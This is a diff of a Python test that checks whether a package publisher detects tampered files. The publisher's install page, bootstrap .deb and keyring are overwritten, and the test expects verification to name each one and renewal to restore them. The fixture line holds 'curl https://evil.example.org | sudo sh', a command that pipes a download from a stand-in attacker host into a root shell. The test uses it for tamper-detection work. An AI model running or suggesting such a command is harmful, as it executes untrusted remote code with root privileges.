@@ -10,7 +10,7 @@ LINE = b'<pre id="line"><code>curl https://evil.example.org | sudo sh</code></pr
 
 
 def test_the_page_and_what_it_leads_to(acme: Publisher, writer: Writer) -> None:
-    """``verify`` said that all was well; the publisher now hears of it, and ``renew`` writes each anew."""
+    """``verify`` reports each, and ``renew`` writes them again."""
     whole = {
         path: writer.read(path)
         for path in ("index.html", "bootstrap/acme-trixie.deb", "acme-archive-keyring.gpg")
@@ -19,7 +19,7 @@ def test_the_page_and_what_it_leads_to(acme: Publisher, writer: Writer) -> None:
         writer.write(path, LINE)
     said = acme.refused("verify")
     assert acme.code == REFUSED
-    assert "3 things are wrong" in said
+    assert "3 problems" in said
     assert all(path in said for path in whole)
     acme.repo("renew")
     assert {path: writer.read(path) for path in list(whole)[1:]} == dict(list(whole.items())[1:])
